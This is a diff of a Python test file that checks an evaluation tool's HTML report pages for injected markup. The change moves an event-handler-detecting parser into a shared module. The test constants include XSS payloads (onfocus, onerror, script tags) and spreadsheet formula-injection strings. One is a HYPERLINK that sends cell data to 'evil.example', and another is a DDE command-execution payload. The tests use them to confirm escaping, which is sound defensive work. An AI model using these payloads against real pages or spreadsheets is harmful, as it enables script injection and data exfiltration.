@@ -6,7 +6,6 @@ Rows are written as `dwb evaluate run` leaves them (a manifest, per-image featur
 line) by ``scored_rows``; each test then edits what an attacker would edit."""
 import csv
 import json
-from html.parser import HTMLParser
 from pathlib import Path
 
 import numpy as np
@@ -16,33 +15,16 @@ import torch
 from evaluate.metrics import FeatureStats
 from evaluate.store import ResultsStore
 
+from ..html_elements import Elements
+
 PROMPTS, DIM = 8, 4
+
 ATTRIBUTE_VERDICTS = {"attr_color": True, "attr_shape": False, "attr_count": True, "attr_position": None,
                       "attr_all": False}
 HOSTILE_SEED = "1' autofocus onfocus='window.pwned=1' x='"
 HOSTILE_COUNT = "<img src=x onerror='window.pwned=2'>"
 FORMULAS = ("=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd",
             "\t=1+1", "\r=1+1")
-
-
-class Markup(HTMLParser):
-    """Every element's tag and attributes, and the page's text."""
-
-    def __init__(self, text: str):
-        super().__init__()
-        self.elements, self.text = [], []
-        self.feed(text)
-
-    def handle_starttag(self, tag, attrs):
-        self.elements.append((tag, dict(attrs)))
-
-    def handle_data(self, data):
-        self.text.append(data)
-
-    def handlers(self) -> list[tuple[str, str]]:
-        """(tag, attribute) of every event handler attribute (onfocus, onerror, ...) and every script element."""
-        found = [(tag, name) for tag, attrs in self.elements for name in attrs if name.startswith("on")]
-        return found + [(tag, "") for tag, _ in self.elements if tag == "script"]
 
 
 def _reference(out: Path, rng) -> str:
@@ -108,7 +90,7 @@ def test_a_manifest_seed_of_markup_is_refused_and_no_page_carries_it(tmp_path, d
     line = _one_line(r, str(manifests["a"]), "'seed'")
     assert "onfocus" in line  # the value is named as it is: a terminal runs nothing
     for page in _pages(tmp_path):
-        assert Markup(page.read_text()).handlers() == []
+        assert Elements(page.read_text()).handlers() == []
 
 
 def test_a_results_row_whose_numbers_are_markup_is_skipped_and_said(tmp_path, dwb, caplog):
@@ -122,7 +104,7 @@ def test_a_results_row_whose_numbers_are_markup_is_skipped_and_said(tmp_path, dw
     r = dwb("evaluate", "report", "--out", str(tmp_path))
     assert r.returncode == 0, r.stderr
     for page in _pages(tmp_path):
-        assert Markup(page.read_text()).handlers() == []
+        assert Elements(page.read_text()).handlers() == []
 
 
 def test_every_value_on_the_compare_page_is_escaped_for_its_place(tmp_path):
@@ -141,7 +123,7 @@ def test_every_value_on_the_compare_page_is_escaped_for_its_place(tmp_path):
                            "sentence": HOSTILE_COUNT}]}
     html = "".join([_header(row, row, []), section_heading(result), verdict_table(result),
                     pair_figure(ImagePair(line, dict(line), tmp_path, tmp_path), page, None, ())])
-    markup = Markup(html)
+    markup = Elements(html)
     assert markup.handlers() == []
     text = "".join(markup.text)
     assert "<script>window.pwned=3</script>" in text and HOSTILE_COUNT in text  # shown as text
@@ -199,7 +181,7 @@ def test_a_comparison_file_nested_deep_or_of_markup_is_left_out_of_the_report(tm
     assert r.returncode == 0 and "Traceback" not in r.stderr, r.stderr
     assert "deep.json: JSON nested deeper than" in caplog.text and "markup.json: 'guidance'" in caplog.text
     report = (tmp_path / "report" / "index.html").read_text()
-    assert Markup(report).handlers() == [] and "A = a, B = b" in report
+    assert Elements(report).handlers() == [] and "A = a, B = b" in report
 
 
 @pytest.mark.parametrize("formula", FORMULAS)
